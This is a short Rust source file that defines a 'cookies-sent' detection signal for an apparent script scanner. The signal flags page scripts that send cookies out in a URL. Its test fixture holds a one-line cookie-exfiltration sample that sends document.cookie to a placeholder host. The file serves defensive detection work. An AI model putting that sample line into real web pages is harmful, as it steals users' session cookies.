//! `cookies-sent`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "cookies-sent",
    description: "The script sends this page's cookies out in a URL.",
    severity: Severity::Medium,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::Cookie]), one(&[Atom::AddressFromData])],
    within: 40,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &["new Image().src='//c.example/?c='+document.cookie"],
        without: &["document.cookie='a=b'"],
    },
};
